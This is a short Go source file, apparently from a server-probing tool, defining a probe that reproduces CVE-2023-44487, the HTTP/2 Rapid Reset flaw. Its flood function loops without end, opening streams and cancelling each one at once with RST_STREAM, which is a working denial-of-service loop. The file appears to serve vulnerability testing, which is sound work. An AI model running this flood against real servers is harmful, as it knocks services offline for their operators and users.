package probe

import "golang.org/x/net/http2"

// rapidReset reproduces CVE-2023-44487: a request, cancelled at once by RST_STREAM(CANCEL),
// over and over. A cancelled stream no longer counts against MAX_CONCURRENT_STREAMS, so the
// server keeps starting work that nobody waits for unless it limits resets or work started.
var rapidReset = Probe{
	Name:  "rapid-reset",
	CVE:   "CVE-2023-44487",
	Reads: true,
	flood: func(a *abuser) error {
		block := a.request("GET", pathSmall)
		for {
			id := a.newStream()
			if err := a.headers(id, block, true, true); err != nil {
				return err
			}
			if err := a.rstStream(id, http2.ErrCodeCancel); err != nil {
				return err
			}
		}
	},
}
